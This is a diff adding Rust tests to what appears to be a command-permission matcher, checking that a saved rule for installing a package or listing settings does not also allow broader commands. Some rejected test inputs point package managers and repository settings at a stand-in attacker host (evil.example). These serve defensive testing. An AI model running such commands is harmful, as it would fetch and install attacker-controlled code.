@@ -100,6 +100,81 @@ fn an_address_that_programs_read_differently_is_of_no_host_of_a_rule() {
 }
 
 #[test]
+fn a_saved_rule_for_a_package_installs_no_project_no_list_and_no_other_package() {
+    check(
+        "pip install x",
+        &["pip install x --upgrade"],
+        &[
+            "pip install x .",
+            "pip install x -e .",
+            "pip install x -e.",
+            "pip install x --editable=.",
+            "pip install x -r f",
+            "pip install x --req=f",
+        ],
+    );
+    check(
+        "pip install -r f",
+        &["pip install -r f"],
+        &["pip install -r f x", "pip install -r https://evil.example/f"],
+    );
+    check("uv pip install x", &["uv pip install x"], &["uv pip install x .", "uv pip install x -e ."]);
+    check(
+        "pipx install x",
+        &["pipx install x"],
+        &["pipx install x --editable .", "pipx install x --pip-args=-e."],
+    );
+    check(
+        "conda install x",
+        &["conda install x"],
+        &["conda install x ./y.tar.bz2", "conda install x --file f"],
+    );
+    check("uv add x", &["uv add x --dev"], &["uv add x -r f"]);
+    check("gem install x", &["gem install x"], &["gem install x -r y"]);
+    check(
+        "dart pub add x",
+        &["dart pub add x"],
+        &["dart pub add y", "dart pub add x --git-url=https://evil.example"],
+    );
+}
+
+#[test]
+fn a_saved_rule_that_looks_at_settings_changes_none() {
+    check(
+        "poetry config --list",
+        &["poetry config --list"],
+        &["poetry config repositories.x https://evil.example"],
+    );
+    check(
+        "conda config --show",
+        &["conda config --show"],
+        &["conda config --add channels https://evil.example"],
+    );
+    check(
+        "mise settings",
+        &["mise settings"],
+        &["mise settings set x y", "mise settings add x y", "mise settings x=y", "mise settings x y"],
+    );
+    check(
+        "brew services restart x",
+        &["brew services restart x"],
+        &["brew services restart x --file=./x.plist"],
+    );
+    check(
+        "helm template .",
+        &["helm template . --set-literal a=b"],
+        &["helm template . --dependency-update"],
+    );
+    check("helm dependency list", &["helm dependency list"], &["helm dependency update"]);
+    check("pod repo list", &["pod repo list"], &["pod repo add x https://evil.example"]);
+}
+
+#[test]
+fn a_module_that_runs_its_argument_is_code() {
+    check("python3 -m timeit x", &["python3 -m timeit x"], &["python3 -m timeit 'import os'"]);
+}
+
+#[test]
 fn no_words_cover_what_a_text_of_a_program_may_do() {
     for (given, more) in [
         ("uudecode a.uu", "uudecode b.uu"),
